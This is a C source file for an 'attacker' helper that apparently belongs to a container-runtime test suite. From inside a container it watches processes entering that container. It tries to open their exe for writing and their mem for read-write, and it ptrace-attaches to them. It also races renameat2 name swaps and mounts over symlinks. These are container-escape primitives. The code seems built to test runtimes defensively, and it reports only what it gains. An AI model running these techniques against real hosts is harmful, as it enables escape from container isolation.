/*
 * attacker: what a container does to others at a speed that a shell has not. Linked statically, run in containers by
 * oci-attacks; ends on SIGTERM.
 *
 *   attacker watch     looks at each process that is not yet its command: "seen N", and a line for all it gets hold of
 *   attacker swap A B  exchanges the names A and B, over and over; "swapped N"
 *   attacker cover A B mounts a link to A over the link B; "covered 1" when that worked
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t over;

static void end(int signal)
{
	(void)signal;
	over = 1;
}

/* Of a process that enters a container: the name that the runtime's helper has until it executes the command. */
static int is_entering(const char *pid)
{
	char path[300], name[32] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	if (read(fd, name, sizeof(name) - 1) < 0)
		name[0] = '\0';
	close(fd);
	return strncmp(name, "teu-", 4) == 0;
}

static void tell(const char *what, const char *pid)
{
	/* What was got hold of may have been the command's by then, which is no secret. */
	if (is_entering(pid))
		printf("%s of %s\n", what, pid);
}

static void try_file(const char *pid, const char *file, int flags)
{
	char path[300];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, file);
	fd = open(path, flags);
	if (fd >= 0) {
		tell(file, pid);
		close(fd);
	}
}

static void look_at(const char *pid)
{
	int number = atoi(pid);
	char path[300], target[256];

	try_file(pid, "fd/3", O_PATH);
	try_file(pid, "exe", O_WRONLY);
	try_file(pid, "exe", O_PATH);
	try_file(pid, "mem", O_RDWR);
	try_file(pid, "root", O_PATH);
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	if (readlink(path, target, sizeof(target)) > 0)
		tell("link to program", pid);
	if (ptrace(PTRACE_SEIZE, number, 0, 0) == 0) {
		tell("trace", pid);
		kill(number, SIGSTOP);
		waitpid(number, NULL, __WALL);
		ptrace(PTRACE_DETACH, number, 0, 0);
		kill(number, SIGCONT);
	}
}

static int watch(void)
{
	long seen = 0;

	while (!over) {
		DIR *proc = opendir("/proc");

		for (struct dirent *e = readdir(proc); e; e = readdir(proc))
			if (atoi(e->d_name) > 1 && is_entering(e->d_name)) {
				seen++;
				look_at(e->d_name);
			}
		closedir(proc);
	}
	printf("seen %ld\n", seen);
	return 0;
}

static int swap(const char *a, const char *b)
{
	long swapped = 0;

	while (!over)
		swapped += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0;
	printf("swapped %ld\n", swapped);
	return 0;
}

/* mount(2) would follow the link. */
static int cover(const char *to, const char *link)
{
	long tree = -1, done = -1;

	if (symlink(to, "/dev/cover") == 0)
		tree = syscall(SYS_open_tree, AT_FDCWD, "/dev/cover", 1 /* OPEN_TREE_CLONE */ | AT_SYMLINK_NOFOLLOW);
	if (tree >= 0)
		done = syscall(SYS_move_mount, tree, "", AT_FDCWD, link, 4 /* MOVE_MOUNT_F_EMPTY_PATH */);
	printf("covered %d\n", done == 0);
	fflush(stdout);
	while (!over)
		pause();
	return 0;
}

int main(int argc, char **argv)
{
	signal(SIGTERM, end);
	printf("up\n");
	fflush(stdout);
	if (argc > 3 && strcmp(argv[1], "swap") == 0)
		return swap(argv[2], argv[3]);
	if (argc > 3 && strcmp(argv[1], "cover") == 0)
		return cover(argv[2], argv[3]);
	return watch();
}
